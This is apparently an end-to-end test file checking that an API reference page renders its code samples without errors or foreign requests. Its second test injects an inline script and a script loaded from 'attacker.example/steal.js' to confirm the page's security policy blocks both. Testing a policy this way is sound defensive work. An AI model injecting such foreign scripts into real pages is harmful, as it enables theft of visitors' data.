// The API reference at /api/docs (issue 38 item 1): Redoc, served by the gateway from this origin,
// renders the OpenAPI document in Chromium with no console error and no request elsewhere; the bot
// calls show their snippets (curl, Node, Python); its policy refuses any script it does not serve.
import assert from 'node:assert/strict';
import { describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { useBrowser, webUrl } from '../../testing/e2e-support/browser.ts';

/** Everything the page reports going wrong: console errors, uncaught errors, failed or foreign requests. */
function watch(page: Page): string[] {
  const problems: string[] = [];
  const origin = new URL(webUrl).origin;
  page.on('console', (message) => {
    if (message.type() === 'error') problems.push(`console: ${message.text()}`);
  });
  page.on('pageerror', (error) => problems.push(`uncaught: ${error.message}`));
  page.on('requestfailed', (request) => problems.push(`failed: ${request.url()}`));
  page.on('request', (request) => {
    const url = new URL(request.url());
    // Redoc starts its search index's worker from a blob: URL of this origin.
    if (url.origin !== origin && !(url.protocol === 'blob:' && request.url().startsWith(`blob:${origin}/`)))
      problems.push(`request elsewhere: ${request.url()}`);
  });
  return problems;
}

describe('the API reference at /api/docs', () => {
  const browser = useBrowser();

  it('renders the bot calls with their curl, Node and Python snippets and answer samples, with no console error and nothing loaded from elsewhere', async () => {
    const page = await browser.newPage();
    const problems = watch(page);
    await page.goto('/api/docs#tag/bot/operation/nextBotMessage');
    await page.getByRole('heading', { level: 2, name: /Waits \(up to/ }).waitFor({ timeout: 30_000 });
    const operation = page.locator('[data-section-id="tag/bot/operation/nextBotMessage"]');
    await operation.getByRole('tab', { name: 'Node' }).click();
    await operation.getByText('const { code, cursor } = await bot.waitForCode').waitFor();
    await operation.getByRole('tab', { name: 'Python' }).click();
    await operation.getByText('def wait_for_code(since').waitFor();
    await operation.getByText('"482913"').first().waitFor();
    // Search runs in its worker.
    await page.getByPlaceholder('Search...').fill('claim');
    await page
      .locator('[data-role="search:results"]')
      .getByRole('menuitem', { name: /^Claims a text of the bot/ })
      .waitFor();
    await page.waitForTimeout(500);
    expect(problems).toStrictEqual([]);
  });

  it('refuses to run a script injected into the page (inline, or from another origin): its policy allows only its own', async () => {
    const page = await browser.newPage();
    await page.goto('/api/docs');
    await page.getByRole('heading', { level: 1, name: /MultiMFA API/ }).waitFor({ timeout: 30_000 });
    const violations = await page.evaluate(async () => {
      const seen: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => seen.push(event.violatedDirective));
      const inline = document.createElement('script');
      inline.textContent = 'window.injected = "inline";';
      document.body.append(inline);
      const foreign = document.createElement('script');
      foreign.src = 'https://attacker.example/steal.js';
      document.body.append(foreign);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { seen, injected: (window as { injected?: string }).injected ?? null };
    });
    assert.equal(violations.injected, null);
    assert.deepEqual(violations.seen.sort(), ['script-src-elem', 'script-src-elem']);
  });
});
